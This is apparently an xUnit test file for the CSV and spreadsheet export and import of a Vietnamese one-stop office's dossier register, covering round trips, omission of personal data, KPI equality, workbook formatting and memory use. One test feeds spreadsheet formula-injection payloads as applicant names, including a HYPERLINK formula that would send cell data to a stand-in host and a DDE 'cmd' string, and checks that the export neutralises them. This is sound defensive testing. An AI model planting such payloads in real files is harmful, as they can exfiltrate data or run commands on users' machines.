using System.Runtime.CompilerServices;
using System.Text;
using Microsoft.EntityFrameworkCore;
using NodaTime;
using PhuocHiep.MotCua.Agencies;
using PhuocHiep.MotCua.Dossiers;
using PhuocHiep.MotCua.Kpi;
using PhuocHiep.MotCua.Reports;
using PhuocHiep.MotCua.Supplements;
using static PhuocHiep.MotCua.Tests.Given;

namespace PhuocHiep.MotCua.Tests.Reports;

/// <summary>The register as a file: to read, to sort, to carry elsewhere and back.</summary>
public sealed class RegisterFileTests(TestTemplate template) : OwnDatabase(template)
{
    const string Header = "code,procedure_code,channel,applicant_name,identity_number,phone,email,address,received_at,due_at,completed_at,returned_at,outcome,fee_vnd,paid_at,payment_method,components_total,components_digitized,electronic_result";

    const string Personal = "identity_number,phone,email,address,";

    static readonly Instant Now = At(2024, 9, 15, 9);

    static readonly LocalDate First = new(2024, 1, 1), Last = new(2024, 12, 31);

    [Fact]
    public async Task A_register_that_came_in_goes_out_row_for_row()
    {
        var register = Header + """

            SO-1,1.004873,online,Võ Thị Sổ,052190000123,0905123456,so@example.vn,"Thôn ""Giang Nam"", Phước Hiệp",2024-08-01T08:00:00+07:00,2024-08-06T17:00:00+07:00,2024-08-07T09:30:00+07:00,2024-08-08T14:00:00+07:00,granted,15000,2024-08-01T08:05:00+07:00,online,3,2,true
            SO-2,2.000815,post,Võ Thị Từ Chối,,,,,2024-08-02T08:00:00.25+07:00,2024-08-05T10:30:00+07:00,2024-08-04T08:00:00.000001+07:00,,refused,0,,,0,0,false
            SO-3,2.000815,counter,Võ Thị Rút,,,,,2024-08-03T08:00:00+07:00,2024-08-06T17:00:00+07:00,2024-08-05T09:00:00+07:00,,withdrawn,,,cash,1,0,false
            SO-4,1.004873,counter,Võ Thị Mở,,,,,2024-08-04T08:00:00+07:00,2024-12-06T17:00:00+07:00,,,,8000,,,2,2,false

            """.Replace("\r", "", StringComparison.Ordinal).Replace("\n", "\r\n", StringComparison.Ordinal);
        await using var db = Database.Open();
        Assert.Empty((await RegisterAsync(db, register, Now)).Rejected);

        Assert.Equal(register, await CsvAsync(db, personal: true));
    }

    [Fact]
    public async Task What_the_counter_received_goes_into_an_empty_archive_and_is_the_same_register_there()
    {
        await using var db = Database.Open();
        await LivesAsync(db);
        var out1 = await CsvAsync(db, personal: true);
        await using var elsewhere = new TestDatabase(Template);
        await elsewhere.InitializeAsync();
        await using var other = elsewhere.Open();

        var done = await RegisterAsync(other, out1, Now, history: true);

        Assert.Equal((9, 9, 0), (done.Read, done.Added, done.Rejected.Count));
        Assert.Equal(out1, await CsvAsync(other, personal: true));
        // The same register: the same answers to every question of the period.
        var (here, there) = (new KpiPeriod((await AgencyAsync(db)).Id, First, Last, Now), new KpiPeriod((await AgencyAsync(other)).Id, First, Last, Now));
        foreach (var indicator in Indicators.All.OfType<DossierIndicator>().Where(i => i is not (ApologyRate or ApologyPublishedRate or ApologyOversightRate)))
            Assert.Equal((indicator.Id, await indicator.CountAsync(db, here, default)), (indicator.Id, await indicator.CountAsync(other, there, default)));
        var again = await RegisterAsync(other, out1, Now, history: true);
        Assert.Equal((0, 9), (again.Added, again.Unchanged));
    }

    [Fact]
    public async Task Personal_columns_are_left_out_unless_asked_for_and_the_rest_can_be_read_in()
    {
        await using var db = Database.Open();
        await LivesAsync(db);

        var csv = await CsvAsync(db, personal: false);
        var book = await BookAsync(db, personal: false);

        Assert.StartsWith(Header.Replace(Personal, "", StringComparison.Ordinal) + "\r\n", csv, StringComparison.Ordinal);
        foreach (var personal in new[] { "052190000123", "0905123456", "huong@example.vn", "Giang Nam" })
        {
            Assert.DoesNotContain(personal, csv, StringComparison.Ordinal);
            Assert.DoesNotContain(personal, book.Sheet.ToString(), StringComparison.Ordinal);
            Assert.Contains(personal, await CsvAsync(db, personal: true), StringComparison.Ordinal);
            Assert.Contains(personal, (await BookAsync(db, personal: true)).Sheet.ToString(), StringComparison.Ordinal);
        }
        await using var elsewhere = new TestDatabase(Template);
        await elsewhere.InitializeAsync();
        await using var other = elsewhere.Open();
        Assert.Equal((9, 0), (await RegisterAsync(other, csv, Now, history: true)) is var done ? (done.Added, done.Rejected.Count) : default);
        Assert.Equal(csv, await CsvAsync(other, personal: false));
    }

    [Fact]
    public void The_file_has_the_columns_that_the_import_knows_and_no_others() =>
        Assert.Equal(RegisterRow.Needed.Concat(RegisterRow.Optional).Order(), Header.Split(',').Order());

    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)")]
    [InlineData("'=1+1")]
    [InlineData("＝1+1")]
    public async Task A_name_that_looks_like_a_formula_is_none_and_comes_back_as_it_was(string name)
    {
        await using var db = Database.Open();
        await DossierAsync(db, application: Application() with { ApplicantName = name, Phone = "+84905123456", Address = "=1+1" });

        var csv = await CsvAsync(db, personal: true);
        var book = await BookAsync(db, personal: true);

        Assert.DoesNotMatch("(^|,)\"?[=+@＝-]", csv);
        Assert.Contains(",'+84905123456,", csv, StringComparison.Ordinal);
        Assert.Equal(0, book.Formulas);
        Assert.Contains(new ReadCell(name, IsText: true), book.Rows[1]);
        Assert.Contains(new ReadCell("+84905123456", IsText: true), book.Rows[1]);
        await using var elsewhere = new TestDatabase(Template);
        await elsewhere.InitializeAsync();
        await using var other = elsewhere.Open();
        Assert.Empty((await RegisterAsync(other, csv, Now, history: true)).Rejected);
        var read = await other.Dossiers.SingleAsync();
        var written = await db.Dossiers.SingleAsync();
        Assert.Equal((written.ApplicantName, written.Phone, written.Address), (read.ApplicantName, read.Phone, read.Address));
        Assert.Equal(name, read.ApplicantName);
    }

    [Fact]
    public async Task The_workbook_tells_state_holder_and_lateness_and_its_dates_and_sums_are_numbers()
    {
        await using var db = Database.Open();
        await LivesAsync(db);

        var book = await BookAsync(db, personal: false);

        Assert.Equal(10, book.Rows.Count);
        var titles = book.Texts(0).ToList();
        Assert.Equal(["Mã hồ sơ", "Mã thủ tục", "Thủ tục", "Lĩnh vực", "Kênh tiếp nhận", "Người nộp", "Tiếp nhận lúc"], titles.Take(7));
        ReadCell Of(int row, string title) => book.Rows[row][titles.IndexOf(title)];
        string[] Column(string title) => [.. Enumerable.Range(1, 9).Select(row => Of(row, title).Text)];
        Assert.Equal(
            ["Đúng hạn", "Trễ hạn", "Đang quá hạn", "Đang ngừng tính thời hạn", "Kết thúc, không tính", "Kết thúc, không tính", "Đúng hạn", "Đúng hạn", "Đang trong hạn"], Column("Thời hạn"));
        Assert.Equal(["", "4", "37", "", "", "", "", "", ""], Column("Số ngày trễ"));
        Assert.Equal(["Đã trả kết quả", "Đã có kết quả, chờ trả", "Đang giải quyết", "Chờ bổ sung", "Đã rút", "Dừng giải quyết", "Đã có kết quả, chờ trả", "Đã có kết quả, chờ trả", "Đã tiếp nhận"], Column("Tình trạng"));
        Assert.Equal((await ExpertAsync(db)).FullName, Of(3, "Người giữ").Text);
        // 06/08/2024 08:15, as a spreadsheet counts days.
        Assert.Equal(("45510.34375", false), (Of(1, "Tiếp nhận lúc").Text[..11], Of(1, "Tiếp nhận lúc").IsText));
        Assert.Equal(("8000", false), (Of(1, "Lệ phí (đồng)").Text, Of(1, "Lệ phí (đồng)").IsText));
        Assert.Equal(("1", "1"), book.Frozen);
        Assert.Equal("A1:V1", book.Filter);
    }

    [Fact]
    public async Task Only_what_was_received_in_the_period_in_Vietnams_days_and_by_the_agency()
    {
        await using var db = Database.Open();
        foreach (var at in new[] { At(2024, 7, 31, 23, 59), At(2024, 8, 1, 0), At(2024, 8, 31, 23, 59), At(2024, 9, 1, 0) })
            await RegisterAsync(db, $"code,procedure_code,channel,applicant_name,received_at,due_at\n{at.ToIso()},1.004873,counter,A,{at.ToIso()},2024-12-06T17:00:00+07:00", Now);
        var here = (await AgencyAsync(db)).Id;

        async Task<List<string>> Codes(int agency) => await ExportedDossier.Received(db, agency, new(2024, 8, 1), new(2024, 8, 31)).Select(d => d.Code).ToListAsync();
        Assert.Equal(["2024-08-01T00:00:00+07:00", "2024-08-31T23:59:00+07:00"], await Codes(here));
        Assert.Empty(await Codes(here + 1));
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task What_is_written_is_no_longer_held(bool csv)
    {
        var seen = new List<WeakReference>();
        var most = 0;
        // Every 5.000 rows, of those written before: all but the last few are gone.
        async IAsyncEnumerable<ExportedDossier> Rows([EnumeratorCancellation] CancellationToken ct = default)
        {
            for (var i = 1; i <= 20_000; i++)
            {
                yield return Kept(i, seen);
                if (i % 5_000 != 0) continue;
                ct.ThrowIfCancellationRequested();
                GC.Collect();
                most = Math.Max(most, seen.Count(row => row.IsAlive));
            }
            await Task.CompletedTask;
        }

        var count = csv ? await RegisterCsv.WriteAsync(Rows(), Stream.Null, personal: true, Now) : await RegisterSheet.WriteAsync(Rows(), Stream.Null, "Sổ", "Cơ quan", personal: true, Now);

        Assert.Equal(20_000, count);
        Assert.InRange(most, 0, 10);
    }

    [MethodImpl(MethodImplOptions.NoInlining)]
    static ExportedDossier Kept(int i, List<WeakReference> seen)
    {
        var row = new ExportedDossier(
            $"SO-{i}", MaritalStatus, "Thủ tục", "Hộ tịch", Channel.Counter, $"Người {i}", "052190000123", "0905123456", null, "Thôn", Tuesday, Friday, Friday, null, null, null, null, null, DossierStatus.Received, null, null, null, null, 1, 0, false);
        seen.Add(new(row));
        return row;
    }

    /// <summary>Nine dossiers of Tuesday 6/8/2024, promised for Friday: one for each way that a life may take.</summary>
    static async Task LivesAsync(MotCuaDb db)
    {
        var (clerk, expert, calendar) = (await ClerkAsync(db), await ExpertAsync(db), await db.CalendarAsync(await AgencyAsync(db)));
        var application = Application(email: "huong@example.vn") with { Address = "Thôn Giang Nam", FeeVnd = 8000 };
        async Task<Dossier> NewAsync(int minutes) => await DossierAsync(db, Tuesday + Duration.FromMinutes(minutes), application with { RequestKey = Guid.NewGuid(), Channel = (Channel)(minutes % 3) });

        var handedOver = await NewAsync(0);
        handedOver.Pay(8000, PaymentMethod.Cash, "BL-1", clerk, Tuesday);
        handedOver.Complete(Outcome.Granted, "1/UBND", electronicResult: true, null, expert, At(2024, 8, 7));
        handedOver.HandOver(handedOver.ApplicantName, clerk, At(2024, 8, 8));
        (await NewAsync(1)).Complete(Outcome.Refused, null, false, "Không đủ điều kiện", expert, At(2024, 8, 13));
        (await NewAsync(2)).Assign(expert, null, clerk, At(2024, 8, 7));
        var waits = await NewAsync(3);
        waits.RequestSupplement(SupplementStage.Appraisal, SupplementFault.Applicant, "Bản sao", "Thiếu", null, calendar, expert, At(2024, 8, 7));
        (await NewAsync(4)).Withdraw("Không còn nhu cầu", clerk, At(2024, 8, 7));
        var stopped = await NewAsync(5);
        stopped.RequestSupplement(SupplementStage.Appraisal, SupplementFault.Applicant, "Bản sao", "Thiếu", null, calendar, expert, At(2024, 8, 7));
        stopped.Stop("Không bổ sung", expert, At(2024, 8, 20));
        // Ready on the evening of the last day: not late here, nor where it is brought in.
        (await NewAsync(6)).Complete(Outcome.Granted, null, false, null, expert, At(2024, 8, 9, 20));
        var restarted = await NewAsync(7);
        restarted.RequestSupplement(SupplementStage.Appraisal, SupplementFault.Applicant, "Bản sao", "Thiếu", null, calendar, expert, At(2024, 8, 7));
        restarted.CompleteSupplement(inPerson: true, calendar, clerk, At(2024, 8, 9));
        restarted.Complete(Outcome.Granted, null, false, null, expert, At(2024, 8, 14, 12));
        await db.SaveChangesAsync();
        await DossierAsync(db, Now, application with { RequestKey = Guid.NewGuid() });
    }

    static async Task<string> CsvAsync(MotCuaDb db, bool personal)
    {
        using var file = new MemoryStream();
        await RegisterCsv.WriteAsync(ExportedDossier.Received(db, (await AgencyAsync(db)).Id, First, Last).AsAsyncEnumerable(), file, personal, Now);
        return Encoding.UTF8.GetString(file.ToArray());
    }

    static async Task<ReadWorkbook> BookAsync(MotCuaDb db, bool personal)
    {
        using var file = new MemoryStream();
        await RegisterSheet.WriteAsync(ExportedDossier.Received(db, (await AgencyAsync(db)).Id, First, Last).AsAsyncEnumerable(), file, "Sổ", "Cơ quan", personal, Now);
        return new(new MemoryStream(file.ToArray()));
    }
}
